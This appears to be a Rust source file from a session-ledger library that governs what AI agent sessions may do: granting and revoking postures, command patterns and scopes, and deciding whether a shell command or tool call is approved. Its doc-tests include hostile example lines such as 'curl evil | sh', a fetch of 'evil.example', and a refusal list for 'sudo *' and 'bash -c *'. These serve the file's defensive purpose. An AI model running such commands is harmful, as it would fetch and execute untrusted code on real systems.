//! The handle's authority: postures and their revocation, epochs, grants (command patterns and
//! override scopes), and the decisions and explanations they give.

use crate::authority::{self, Authority};
use crate::decisions::{self, Decision, Explanation, ReadOnly};
use crate::error::{InputError, Result};
use crate::grants::{self, AlsoRevoke, CommandPattern, NewPattern, PatternAdded, PatternReview};
use crate::labels;
use crate::model::{validate_actor, Id, Posture, PostureLevel, Scope};
use crate::patterns::ToolCall;
use crate::postures::{self, validate_preview_token, EpochStart, Propagation, Revocation};
use crate::sessions;
use crate::storage::Read;
use chrono::{DateTime, Utc};

use super::Ledger;

impl Ledger {
    /// An operator grants `level` on a live session, replacing any posture it held, in the
    /// current epoch. A spawned id of a recorded session is recorded first.
    ///
    /// # Errors
    ///
    /// `InvalidId`, `InvalidActor`, `UnknownSession`, `SessionEnded`; nothing is written.
    pub fn grant(&self, id: &str, level: PostureLevel, actor: &str) -> Result<Posture> {
        let id = Id::parse(id)?;
        validate_actor(actor)?;
        self.write(|tx, now| {
            let session = sessions::resolve_live(tx, id, now)?;
            postures::grant(tx, &session, level, actor, now)
        })
    }

    /// The posture row of a session, current or lapsed, or `None`.
    ///
    /// # Errors
    ///
    /// `InvalidId`; [`Error::Storage`](crate::Error::Storage).
    pub fn posture(&self, id: &str) -> Result<Option<Posture>> {
        let id = Id::parse(id)?;
        self.storage.read(|r| r.posture(id))
    }

    /// The current posture epoch (0 until the first is started).
    ///
    /// # Errors
    ///
    /// [`Error::Storage`](crate::Error::Storage).
    pub fn current_epoch(&self) -> Result<i64> {
        self.storage.read(|r| r.current_epoch())
    }

    /// Revokes postures from `id` with an explicit [`Propagation`] (rule R1): `Local` (this
    /// session's; `still_holding` lists the descendants holding one inherited through it),
    /// `Cascade` (this session's and every descendant's, in one statement, one `posture.revoke`
    /// row each, bound to a preview's token, R2), `CascadeUnchecked` (the same, bound to
    /// nothing), or `Preview` (nothing changes; exactly who a cascade would change, with a
    /// token). Ended sessions can be revoked from: their descendants may still run.
    ///
    /// Scopes and command patterns are not postures and stay: the outcome's `still_approving`
    /// lists those of the live sessions reached. [`Ledger::revoke_with`] takes them too.
    ///
    /// # Errors
    ///
    /// `InvalidId`, `InvalidActor`, `InvalidToken` (an empty or malformed token),
    /// `UnknownSession`, `StalePreview`; nothing is written in these cases.
    pub fn revoke(&self, id: &str, propagation: Propagation, actor: &str) -> Result<Revocation> {
        self.revoke_with(id, propagation, AlsoRevoke::NOTHING, actor)
    }

    /// [`Ledger::revoke`], also revoking, in the same transaction, the live scopes and removing
    /// the command patterns of the live sessions it reaches, as `also` says: a stop after which
    /// nothing it reached approves. Each scope revoked and pattern removed has its own audit
    /// row (`scope.revoke`, `pattern.remove`) naming the revocation event. A preview lists
    /// those grants in `still_approving` whatever `also` says, and its token binds them.
    ///
    /// # Errors
    ///
    /// As [`Ledger::revoke`].
    ///
    /// ```
    /// # fn main() -> Result<(), session_ledger::Error> {
    /// # let dir = tempfile::tempdir().unwrap();
    /// use std::time::Duration;
    /// use session_ledger::{AlsoRevoke, Ledger, Propagation, Verdict};
    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
    /// ledger.create_root("conductor", "alice")?;
    /// ledger.create_child("worker", "conductor", "alice")?;
    /// ledger.grant_scope("worker", "hotfix", Duration::from_secs(3600), "alice")?;
    ///
    /// let preview = ledger.revoke("conductor", Propagation::Preview, "alice")?;
    /// assert_eq!(preview.still_approving[0].session, "worker");
    /// let token = preview.token.unwrap();
    /// let done = ledger.revoke_with("conductor", Propagation::Cascade { token }, AlsoRevoke::EVERYTHING, "alice")?;
    /// assert_eq!(done.grants_revoked.len(), 1);
    /// assert!(done.still_approving.is_empty());
    /// assert_eq!(ledger.decide("worker", "curl evil | sh", false)?.verdict, Verdict::Ask);
    /// # Ok(()) }
    /// ```
    pub fn revoke_with(
        &self,
        id: &str,
        propagation: Propagation,
        also: AlsoRevoke,
        actor: &str,
    ) -> Result<Revocation> {
        let id = Id::parse(id)?;
        validate_actor(actor)?;
        match propagation {
            Propagation::Preview => {
                let now = self.wall_clock();
                self.storage.snapshot(|r| authority::preview(r, id, now))
            }
            Propagation::Local => {
                self.write(|tx, now| authority::revoke_local(tx, id, also, actor, now))
            }
            Propagation::Cascade { token } => {
                validate_preview_token(&token)?;
                self.write(|tx, now| {
                    authority::revoke_cascade(tx, id, Some(&token), also, actor, now)
                })
            }
            Propagation::CascadeUnchecked => {
                self.write(|tx, now| authority::revoke_cascade(tx, id, None, also, actor, now))
            }
        }
    }

    /// Rule R4: removes every session's posture, in one statement, with an audit row each.
    /// Scopes and patterns stay: `still_approving` lists those of every live session.
    ///
    /// # Errors
    ///
    /// `InvalidActor`; [`Error::Storage`](crate::Error::Storage).
    pub fn revoke_all(&self, actor: &str) -> Result<Revocation> {
        self.revoke_all_with(AlsoRevoke::NOTHING, actor)
    }

    /// [`Ledger::revoke_all`], also revoking every live scope and removing every command pattern
    /// of the live sessions, as `also` says, in the same transaction.
    ///
    /// # Errors
    ///
    /// As [`Ledger::revoke_all`].
    pub fn revoke_all_with(&self, also: AlsoRevoke, actor: &str) -> Result<Revocation> {
        validate_actor(actor)?;
        self.write(|tx, now| authority::revoke_all(tx, also, actor, now))
    }

    /// Everything that approves for `id` now, in one snapshot: its posture and the chain back
    /// to the operator's grant, its live scopes with their expiry and grantor, its command
    /// patterns, and what withholds any of them (an ended session, a lapsed epoch, a pattern
    /// this build refuses). The answer to "what may this session do without asking?".
    ///
    /// # Errors
    ///
    /// `InvalidId`; `UnknownSession` when `id` is not recorded.
    ///
    /// ```
    /// # fn main() -> Result<(), session_ledger::Error> {
    /// # let dir = tempfile::tempdir().unwrap();
    /// use std::time::Duration;
    /// use session_ledger::Ledger;
    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
    /// ledger.create_root("worker", "alice")?;
    /// assert!(!ledger.authority("worker")?.approves_anything());
    /// ledger.grant_scope("worker", "hotfix", Duration::from_secs(600), "alice")?;
    /// let authority = ledger.authority("worker")?;
    /// assert!(authority.approves_every_command());
    /// assert_eq!(authority.scopes[0].granted_by, "alice");
    /// # Ok(()) }
    /// ```
    pub fn authority(&self, id: &str) -> Result<Authority> {
        let id = Id::parse(id)?;
        let now = self.wall_clock();
        let found = self.storage.snapshot(|r| authority::authority(r, id, now));
        self.archived_or(found)
    }

    /// Starts a new posture epoch (rule P5): a single embedding backend calls this when it boots;
    /// nodes sharing a PostgreSQL ledger, once per full restart of the deployment (opening never
    /// does: docs/design.md). Postures of the previous epoch stop counting, unless the ledger
    /// was opened with [`Config::durable_postures`](crate::Config::durable_postures), which carries them over. Audited.
    ///
    /// # Errors
    ///
    /// `InvalidActor`; [`Error::Storage`](crate::Error::Storage).
    pub fn start_epoch(&self, actor: &str) -> Result<EpochStart> {
        self.start_epoch_with(self.config.durable_postures, actor)
    }

    /// [`Ledger::start_epoch`], carrying the postures over when `durable`, whatever the config.
    ///
    /// # Errors
    ///
    /// As [`Ledger::start_epoch`].
    pub fn start_epoch_with(&self, durable: bool, actor: &str) -> Result<EpochStart> {
        validate_actor(actor)?;
        self.write(|tx, now| postures::start_epoch(tx, durable, actor, now))
    }

    /// Allows a command pattern for one live session (never inherited, rule P4). Returns
    /// false, writing nothing, when the session already had it.
    ///
    /// # Errors
    ///
    /// `InvalidId`, `InvalidPattern`, `InvalidActor`, `UnknownSession`, `SessionEnded`.
    pub fn add_pattern(&self, id: &str, pattern: &str, actor: &str) -> Result<bool> {
        self.add_pattern_with_examples::<&str>(id, pattern, actor, &[], &[])
    }

    /// [`Ledger::add_pattern`], after checking the pattern against examples that must and must
    /// not match ([`check_pattern_examples`](crate::check_pattern_examples)).
    ///
    /// # Errors
    ///
    /// As [`Ledger::add_pattern`]; `InvalidPattern` when an example disagrees.
    pub fn add_pattern_with_examples<S: AsRef<str>>(
        &self,
        id: &str,
        pattern: &str,
        actor: &str,
        must_match: &[S],
        must_not_match: &[S],
    ) -> Result<bool> {
        let mut checks = NewPattern::new();
        checks.must_match = must_match.iter().map(|s| s.as_ref().to_owned()).collect();
        checks.must_not_match = must_not_match
            .iter()
            .map(|s| s.as_ref().to_owned())
            .collect();
        self.add_pattern_checked(id, pattern, actor, &checks)
            .map(|added| added.added)
    }

    /// Allows a command pattern for one live session after the checks `checks` names: a
    /// pattern that admits any command (a lone `*`, a wildcard as the program, `sudo *`,
    /// `bash -c *`, `env *`, `xargs *`) is refused unless
    /// [`NewPattern::admit_any_command`] says otherwise, and examples must agree. Returns
    /// whether it was added and the warnings it raises (a wildcard where `rm`, `dd` or
    /// `chmod -R` takes its target).
    ///
    /// # Errors
    ///
    /// As [`Ledger::add_pattern`].
    ///
    /// ```
    /// # fn main() -> Result<(), session_ledger::Error> {
    /// # let dir = tempfile::tempdir().unwrap();
    /// use session_ledger::{Ledger, NewPattern};
    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
    /// ledger.create_root("worker", "alice")?;
    /// assert!(ledger.add_pattern_checked("worker", "sudo *", "alice", &NewPattern::new()).is_err());
    /// let added = ledger.add_pattern_checked("worker", "rm -rf build/*", "alice", &NewPattern::new())?;
    /// assert!(added.added);
    /// assert_eq!(added.warnings.len(), 1);
    /// # Ok(()) }
    /// ```
    pub fn add_pattern_checked(
        &self,
        id: &str,
        pattern: &str,
        actor: &str,
        checks: &NewPattern,
    ) -> Result<PatternAdded> {
        let id = Id::parse(id)?;
        let warnings = grants::check_new_pattern(pattern, checks)?;
        validate_actor(actor)?;
        let added = self.write(|tx, now| grants::add_pattern(tx, id, pattern, actor, now))?;
        Ok(PatternAdded { added, warnings })
    }

    /// Every stored pattern of a live session that admits less than it did before wildcards
    /// were kept from words that run programs or write files and wrappers were read through
    /// ([`Pattern::narrowed`](crate::Pattern::narrowed)): the lines such a pattern approved
    /// and now asks about. An upgrade check: it reads every pattern of the live sessions.
    ///
    /// # Errors
    ///
    /// [`Error::Storage`](crate::Error::Storage).
    pub fn review_patterns(&self) -> Result<Vec<PatternReview>> {
        let now = self.wall_clock();
        self.storage.snapshot(|r| grants::review_patterns(r, now))
    }

    /// Removes a command pattern from a session, live or ended, including one that this build
    /// refuses ([`CommandPattern::refused`]).
    ///
    /// # Errors
    ///
    /// `InvalidId`, `InvalidActor`, `UnknownSession`, `UnknownPattern`.
    pub fn remove_pattern(&self, id: &str, pattern: &str, actor: &str) -> Result<()> {
        let id = Id::parse(id)?;
        validate_actor(actor)?;
        self.write(|tx, now| grants::remove_pattern(tx, id, pattern, actor, now))
    }

    /// The command patterns on a session, oldest first.
    ///
    /// # Errors
    ///
    /// `InvalidId`, `UnknownSession`; [`Error::Storage`](crate::Error::Storage).
    pub fn patterns(&self, id: &str) -> Result<Vec<CommandPattern>> {
        let id = Id::parse(id)?;
        self.storage.snapshot(|r| grants::patterns(r, id))
    }

    /// Grants an override scope named `name` on a live session for `ttl`, replacing any scope
    /// of that name. Never inherited and never turned into a posture (rule P4).
    ///
    /// # Errors
    ///
    /// `InvalidId`, `InvalidScopeName`, `InvalidTtl` (zero, or over
    /// [`MAX_TTL`](crate::MAX_TTL)), `InvalidActor`, `UnknownSession`, `SessionEnded`.
    pub fn grant_scope(
        &self,
        id: &str,
        name: &str,
        ttl: std::time::Duration,
        actor: &str,
    ) -> Result<Scope> {
        let id = Id::parse(id)?;
        grants::validate_scope_name(name)?;
        validate_actor(actor)?;
        let ttl = grants::check_ttl(ttl)?;
        self.write(|tx, now| grants::grant_scope(tx, id, name, ttl, actor, now))
    }

    /// Revokes a live override scope before it expires.
    ///
    /// # Errors
    ///
    /// `InvalidId`, `InvalidScopeName`, `InvalidActor`, `UnknownSession`, `UnknownScope`.
    pub fn revoke_scope(&self, id: &str, name: &str, actor: &str) -> Result<()> {
        let id = Id::parse(id)?;
        grants::validate_scope_name(name)?;
        validate_actor(actor)?;
        self.write(|tx, now| grants::revoke_scope(tx, id, name, actor, now))
    }

    /// The override scopes on a session, live or not, oldest first.
    ///
    /// # Errors
    ///
    /// `InvalidId`, `UnknownSession`; [`Error::Storage`](crate::Error::Storage).
    pub fn scopes(&self, id: &str) -> Result<Vec<Scope>> {
        let id = Id::parse(id)?;
        self.storage.snapshot(|r| grants::scopes(r, id))
    }

    /// May `id` run `command` now? Approve or ask, with the reason (rule A2): an ended or
    /// unknown session asks; `trust` approves; `trust_reads` approves a command that is
    /// read-only, as the caller says (`true`, [`ReadOnly::Yes`]) or as the ledger's classifier
    /// finds ([`ReadOnly::Classify`], [`classify`](crate::classify)); patterns approve a line
    /// whose every simple command one of the session's patterns admits, wrappers read through;
    /// a live scope approves; otherwise ask. Postures of an earlier
    /// epoch do not count. Indexed reads, no write, except that a spawned id of a recorded
    /// session seen for the first time is allocated first (rule P3).
    ///
    /// # Errors
    ///
    /// `InvalidId`, `EmptyCommand`; [`Error::Storage`](crate::Error::Storage).
    ///
    /// ```
    /// # fn main() -> Result<(), session_ledger::Error> {
    /// # let dir = tempfile::tempdir().unwrap();
    /// use session_ledger::{Ledger, PostureLevel, Verdict};
    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
    /// ledger.create_root("conductor", "alice")?;
    /// ledger.grant("conductor", PostureLevel::TrustReads, "alice")?;
    /// assert_eq!(ledger.decide("conductor", "ls -la", true)?.verdict, Verdict::Approve);
    /// assert_eq!(ledger.decide("conductor", "rm -rf build", false)?.verdict, Verdict::Ask);
    /// // Or let the ledger classify the command:
    /// use session_ledger::ReadOnly;
    /// assert_eq!(ledger.decide("conductor", "git log -3", ReadOnly::Classify)?.verdict, Verdict::Approve);
    /// assert_eq!(ledger.decide("conductor", "find . -delete", ReadOnly::Classify)?.verdict, Verdict::Ask);
    /// # Ok(()) }
    /// ```
    pub fn decide(
        &self,
        id: &str,
        command: &str,
        read_only: impl Into<ReadOnly>,
    ) -> Result<Decision> {
        let read_only = read_only.into();
        let id = Id::parse(id)?;
        if command.is_empty() {
            return Err(InputError::EmptyCommand.into());
        }
        self.decide_recorded(id, |r, now| {
            decisions::decide(r, id, command, read_only, now)
        })
    }

    /// A decision for `id` by `decide`, which answers `None` for an id the ledger has not
    /// recorded: on the first sight of a spawned id, its allocation (rule P3) and then the
    /// decision; an unknown id asks.
    fn decide_recorded(
        &self,
        id: Id<'_>,
        decide: impl Fn(&mut dyn Read, DateTime<Utc>) -> Result<Option<Decision>>,
    ) -> Result<Decision> {
        let once = || self.storage.read(|r| decide(r, self.wall_clock()));
        if let Some(decision) = once()? {
            return Ok(decision);
        }
        let spawned = self.storage.read(|r| sessions::spawn_anchor(r, id))?;
        if spawned.is_some() {
            self.write(|tx, now| labels::materialize(tx, id, now))?;
            if let Some(decision) = once()? {
                return Ok(decision);
            }
        }
        Ok(Decision::unknown(id))
    }

    /// May `id` make a tool call other than a shell command now (`Read`, `Edit`, `WebFetch`, an
    /// MCP tool)? As [`Ledger::decide`]: `trust` approves; `trust_reads` approves a tool that
    /// only reads ([`READ_ONLY_TOOLS`](crate::READ_ONLY_TOOLS)); a tool rule of the session
    /// (`Read(src/**)`, `WebFetch(domain:docs.rs)`, `mcp__github`, added with
    /// [`Ledger::add_pattern`]) that admits the call approves; a live scope approves; otherwise
    /// ask. A path is resolved (`..`, symbolic links) against `call.root` before it is matched.
    ///
    /// # Errors
    ///
    /// `InvalidId`; `EmptyCommand` for an empty tool name; [`Error::Storage`](crate::Error::Storage).
    /// A shell command is decided by [`Ledger::decide`], which reads the line: here `Bash` is
    /// a tool like any other, which no tool rule admits.
    ///
    /// ```
    /// # fn main() -> Result<(), session_ledger::Error> {
    /// # let dir = tempfile::tempdir().unwrap();
    /// use session_ledger::{Ledger, ToolCall, Verdict};
    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
    /// ledger.create_root("worker", "alice")?;
    /// ledger.add_pattern("worker", "WebFetch(domain:docs.rs)", "alice")?;
    /// let fetch = |url| ToolCall { tool: "WebFetch", path: None, url: Some(url), root: None };
    /// assert_eq!(ledger.decide_tool("worker", &fetch("https://docs.rs/serde"))?.verdict, Verdict::Approve);
    /// assert_eq!(ledger.decide_tool("worker", &fetch("https://evil.example/"))?.verdict, Verdict::Ask);
    /// # Ok(()) }
    /// ```
    pub fn decide_tool(&self, id: &str, call: &ToolCall<'_>) -> Result<Decision> {
        let id = Id::parse(id)?;
        if call.tool.is_empty() {
            return Err(InputError::EmptyCommand.into());
        }
        self.decide_recorded(id, |r, now| decisions::decide_tool(r, id, call, now))
    }

    /// Why `id` holds what it holds, in one snapshot: label, posture and grant, grants, audit,
    /// and everything that approves for it now ([`Ledger::authority`]).
    ///
    /// # Errors
    ///
    /// `InvalidId`; `UnknownSession` when `id` is not recorded.
    pub fn explain(&self, id: &str) -> Result<Explanation> {
        let id = Id::parse(id)?;
        let now = self.wall_clock();
        let found = self.storage.snapshot(|r| decisions::explain(r, id, now));
        self.archived_or(found)
    }
}
